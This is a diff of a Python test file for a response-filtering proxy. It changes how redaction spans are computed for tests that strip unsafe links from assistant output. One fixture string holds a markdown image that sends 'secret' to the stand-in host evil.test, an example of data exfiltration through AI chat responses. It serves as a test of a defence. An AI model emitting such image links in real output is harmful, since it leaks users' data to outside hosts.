@@ -16,7 +16,7 @@ from sse import openai_stream, openai_text
 from extproc import shapes
 from extproc.detectors import get
 from extproc.detectors.unsafe_links import URL_MAX, UnsafeLinksDetector, UnsafeLinksParams
-from extproc.policy.engine import redaction_spans, scan_text
+from extproc.policy.engine import decide, scan_text
 from extproc.redact import Span, apply_spans, merge_spans
 from extproc.stream_scan import StreamScanner
 
@@ -384,7 +384,7 @@ rules:
     rules = compiled._by_direction["response"]
     text = "Look: ![chart](https://evil.test/c.png?d=secret) and [docs](https://example.com/d)."
     hits = scan_text(rules, text, "assistant", "response")
-    assert apply_spans(text, merge_spans(redaction_spans(hits))) == (
+    assert apply_spans(text, decide(hits).spans.get(0, [])) == (
         "Look: [image removed: chart] and [docs](https://example.com/d).")
     assert [h.rule.id for h in hits] == ["output-links"]
 
@@ -548,7 +548,7 @@ def stream_through(rule_set, pieces, records_per_push=1):
 
 def batch(rule_set, text):
     hits = scan_text(rule_set, text, "assistant", "response")
-    return apply_spans(text, merge_spans(redaction_spans(hits)))
+    return apply_spans(text, decide(hits).spans.get(0, []))
 
 
 def test_an_image_split_across_many_events_is_neutralised_in_the_stream():
